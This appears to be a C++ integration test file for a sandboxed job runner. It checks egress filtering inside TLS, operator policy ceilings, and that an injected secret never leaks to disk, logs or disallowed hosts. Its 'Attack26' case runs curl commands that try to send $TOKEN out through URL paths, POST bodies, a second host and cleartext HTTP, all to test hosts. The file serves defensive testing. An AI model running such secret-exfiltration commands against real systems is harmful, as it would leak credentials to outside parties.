// What intercept_test.cc shows of local runs, on a runner: a plane, a runner and a client, each a process of its own.
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <string>

#include "matchers.h"
#include "outside.h"

namespace writ::net_test {
namespace {

namespace fs = std::filesystem;
using cli_test::Ended;
using cli_test::Member;

constexpr std::string_view kValue = "v4lue-that-no-runner-keeps";
constexpr std::string_view kPolicy =
    R"({"version": "warrant.policy.v1", "runners": {"allowPools": ["default"]}, "agents": {"allow": ["command"]}, "dataClasses": [],)"
    R"( "network": {"defaultDeny": true, "allowHosts": ["public.test", "other.test"]},)"
    R"( "secrets": {"releasable": [{"name": "TOKEN", "scope": "team:x", "pools": ["default"]}]},)"
    R"( "budget": {"maxSpendUsd": 25, "maxDurationMin": 60}, "consent": [], "retention": {"receiptsDays": 365, "artifactsDays": 90},)"
    R"( "writ": {"v": 1, "tiers": {"allow": ["process"]}, "accept": ["*"]}})";

/// Everything below a directory that holds `text`, also in the name. Files may go meanwhile.
std::vector<std::string> Holding(const std::string& directory, std::string_view text) {
  std::vector<std::string> found;
  std::size_t files = 0;
  const auto look = [&](const fs::directory_entry& entry) {
    const std::string path = entry.path();
    std::error_code gone;
    if (path.find(text) != path.npos) found.push_back(path);
    if (entry.symlink_status(gone).type() != fs::file_type::regular) return;
    const auto content = sys::ReadFile(path, 1 << 30);
    if (!content) {
      EXPECT_EQ(content.error().code, Code::kNotFound) << content.error().what;
    } else if (content->find(text) != content->npos) {
      found.push_back(path);
    }
    ++files;
  };
  for (const Deadline limit = Deadline::After(Millis{20'000});;) {
    std::error_code changed;
    auto at = fs::recursive_directory_iterator(directory, changed);
    for (; !changed && at != fs::recursive_directory_iterator(); at.increment(changed)) look(*at);
    if (!changed) break;
    if (limit.Passed()) {
      ADD_FAILURE() << directory << ": " << changed.message();
      break;
    }
  }
  EXPECT_GT(files, 0u) << directory << " is empty";
  return found;
}

/// A plane and a runner in the network of the test, and a client that has logged in as `lab`.
class Elsewhere {
 public:
  /// `ceiling`: a policy of the runner's own.
  explicit Elsewhere(const Outside& outside, std::string_view ceiling = "") : outside_(outside) {
    const auto file = [&](const char* name, std::string_view content) {
      EXPECT_TRUE(sys::WriteFileAtomic(outside.Home(name), content, 0600));
      EXPECT_EQ(::chown(outside.Home(name).c_str(), Owner(), Owner()), 0);
      return outside.Home(name);
    };
    const std::string policy = file("policy.json", kPolicy), admin = file("admin", "admin-token-0123456789abcdef"),
                      enroll = file("enroll", "enroll-token-0123456789abcdef");
    plane_.emplace(outside.Start({"serve", "--listen", "127.0.0.1:0", "--state", plane(), "--policy", policy, "--admin-token-file", admin,
                                  "--enroll-token-file", enroll}, "writ-server"));
    EXPECT_TRUE(plane_->WaitForOutput("\n"));
    const std::string url = sys::ReadFile(plane() + "/plane.url", 1000).value_or("");
    const auto end = url.find_last_not_of('\n') + 1;
    std::vector<std::string> words = {"runner", "--plane", url.substr(0, end), "--token-file", enroll, "--dir", runner()};
    if (!ceiling.empty()) words.insert(words.end(), {"--policy", file("ceiling.yaml", ceiling)});
    runner_.emplace(outside.Start(words, "writ-server"));
    const Ended login = outside.Writ({"plane", "login", "--name", "lab", "--token-file", admin, url.substr(0, end)});
    EXPECT_EQ(login.status, 0) << login.err;
  }
  std::string plane() const { return outside_.Home("plane"); }
  std::string runner() const { return outside_.Home("runner"); }

  /// Ends both and returns all that they said.
  std::string Stop() {
    std::string said;
    for (auto* process : {&runner_, &plane_}) {
      if (!*process) continue;
      ::kill((*process)->pid(), SIGTERM);
      const Ended ended = (*process)->Wait();
      EXPECT_EQ(ended.status, 0) << ended.err;
      said += ended.out + ended.err;
      process->reset();
    }
    return said;
  }

 private:
  uid_t Owner() const {
    struct stat meta{};
    EXPECT_EQ(::stat(outside_.Home("").c_str(), &meta), 0);
    return meta.st_uid;
  }

  const Outside& outside_;
  std::optional<cli_test::Process> plane_, runner_;
};

const std::vector<std::string> kThere = {"--plane", "lab"};

TEST(NetRunner, RequestsAreJudgedInsideTls) {
  WRIT_NEEDS_CLIENTS("/usr/bin/curl");
  const Outside outside;
  Elsewhere elsewhere(outside);
  outside.Serve("ok.txt", "granted\n");
  outside.Serve("no.txt", "kept\n");
  const Job job = RunJob(outside, {"--net-rule", "public.test:8443 GET /ok*"},
                         "curl -sS https://public.test:8443/ok.txt; curl -sS https://public.test:8443/no.txt; "
                         "curl -sS -d x https://public.test:8443/ok.txt; head -1 $CURL_CA_BUNDLE", kThere);
  const std::string said = elsewhere.Stop();
  EXPECT_EQ(job.ended.status, 0) << job.ended.err << said;
  EXPECT_THAT(job.ended.out, AllOf(HasSubstr("granted"), HasSubstr("smallest grant"), HasSubstr("BEGIN CERTIFICATE"), Not(HasSubstr("kept")))) << said;
  EXPECT_THAT(outside.Arrived("http "), ElementsAre(HasSubstr("GET /ok.txt")));
  EXPECT_THAT(job.attempts(), AllOf(Contains(HasSubstr("public.test:8443 connect allowed egress.rules[0]")), Contains(HasSubstr("public.test:8443 connect blocked default"))));
  EXPECT_THAT(canon::Compact(job.bundle), HasSubstr("run-authority sha256:"));
}

TEST(NetRunner, ItsOperatorsPolicyIsAboveWhatThePlaneSigned) {
  WRIT_NEEDS_CLIENTS("/usr/bin/curl");
  const Outside outside;
  outside.Serve("ok.txt", "granted\n");
  Elsewhere elsewhere(outside,
                      "version: 1\nrunners: {allowPools: [default]}\nagents: {allow: [command]}\ntiers: {allow: [process]}\naccept: [\"*\"]\n"
                      "limits: {memory: 256M}\negress: {rules: [\"public.test:8443 GET /ok*\"]}\n");
  const std::string fetch = "curl -sS https://public.test:8443/ok.txt";
  struct Case {
    const char* why;
    std::vector<std::string> words;
    std::string says;  ///< of the refusal; empty: it runs
  };
  const Case cases[] = {
      {"a host", {"--memory", "64M", "--net", "other.test"}, "network.allowHosts: network host \"other.test\""},
      {"more of a host", {"--memory", "64M", "--net-rule", "public.test:8443 POST /ok*"}, "writ.egress.rules: egress rule \"public.test:8443 POST /ok*\""},
      {"memory", {"--memory", "512M"}, "writ.limits.memoryBytes: requested memory 512M exceeds policy ceiling 256M"},
      {"what is below", {"--memory", "64M", "--net-rule", "public.test:8443 GET /ok*"}, ""},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.why);
    const Job job = RunJob(outside, c.words, fetch, kThere);
    const std::string bundle = canon::Compact(job.bundle);
    EXPECT_THAT(bundle, HasSubstr("writ.policy.judged"));
    if (c.says.empty()) {
      EXPECT_EQ(job.ended.status, 0) << job.ended.err;
      EXPECT_EQ(job.ended.out, "granted\n");
      continue;
    }
    EXPECT_EQ(job.ended.status, 125) << job.ended.err;
    EXPECT_THAT(job.ended.err, AllOf(HasSubstr("denied by the runner's own policy: "), HasSubstr(c.says)));
    EXPECT_THAT(bundle, AllOf(HasSubstr("policy_denied"), Not(HasSubstr("writ.cell.prepared"))));
  }
  EXPECT_THAT(outside.Arrived("http "), ElementsAre(HasSubstr("GET /ok.txt")));
  elsewhere.Stop();
}

TEST(NetRunner, Attack26_ABoundSecretIsPutInByTheRunnerAndKeptNowhere) {
  WRIT_NEEDS_CLIENTS("/usr/bin/curl");
  const Outside outside;
  const std::string value(kValue);
  std::ofstream(outside.File("token")) << kValue;
  Elsewhere elsewhere(outside);
  const Ended set = outside.Start({"secret", "set", "TOKEN", "--host", "public.test", "--from", "file:" + outside.File("token")}, "writ",
                                  elsewhere.plane()).Wait();
  ASSERT_EQ(set.status, 0) << set.err;
  const Job job = RunJob(outside, {"--net", "public.test", "--net", "other.test", "--secret", "TOKEN", "--output", "told?"},
                         "curl -sS -o /dev/null https://public.test:8443/path/$TOKEN\n"
                         "curl -sS -d \"key=$TOKEN\" https://public.test:8443/echo; echo\n"
                         "curl -sS -d \"key=$TOKEN\" https://public.test:8443/echo > /out/told\n"
                         "curl -sS -k -o /dev/null https://other.test:8443/other/$TOKEN\n"
                         "curl -sS http://public.test:8080/clear/$TOKEN; env; head -1 $SSL_CERT_FILE", kThere);
  for (const auto& directory : {elsewhere.plane(), elsewhere.runner(), outside.Home("")})
    EXPECT_THAT(Holding(directory, kValue), IsEmpty()) << "while they serve";
  EXPECT_THAT(Holding(outside.File(""), kValue), Contains(HasSubstr("token"))) << "it finds what is there";
  const std::string said = elsewhere.Stop();
  for (const auto& directory : {elsewhere.plane(), elsewhere.runner()}) EXPECT_THAT(Holding(directory, kValue), IsEmpty()) << "at their end";
  EXPECT_EQ(job.ended.status, 0) << job.ended.err << said;
  EXPECT_THAT(outside.Arrived("http public.test"), AllOf(Contains(HasSubstr("GET /path/" + value)), Not(Contains(HasSubstr("/clear/")))));
  EXPECT_THAT(outside.Arrived("http other.test"), AllOf(testing::SizeIs(1), Not(Contains(HasSubstr(value)))));
  EXPECT_THAT(job.ended.out, AllOf(HasSubstr("key=writ-secret-TOKEN-"), HasSubstr("BEGIN CERTIFICATE"), Not(HasSubstr(value)))) << job.ended.err;
  EXPECT_THAT(job.ended.err + said, Not(HasSubstr(value)));

  const std::string bundle = canon::Compact(job.bundle);
  EXPECT_THAT(bundle, Not(HasSubstr(value)));
  const canon::Json* receipt = job.bundle.Find("receipt");
  ASSERT_NE(receipt, nullptr);
  EXPECT_THAT(Member(*receipt, "secretsReleased"), AllOf(HasSubstr("\"TOKEN\""), HasSubstr("\"team:x\"")));
  std::vector<std::string> released;
  for (const auto& entry : job.bundle.Find("events")->array())
    if (Member(*entry.Find("event"), "type").starts_with("secret.")) released.push_back(canon::Compact(*entry.Find("event")));
  EXPECT_THAT(released, ElementsAre(AllOf(HasSubstr("secret.released"), HasSubstr("\"TOKEN\""))));
}

}  // namespace
}  // namespace writ::net_test
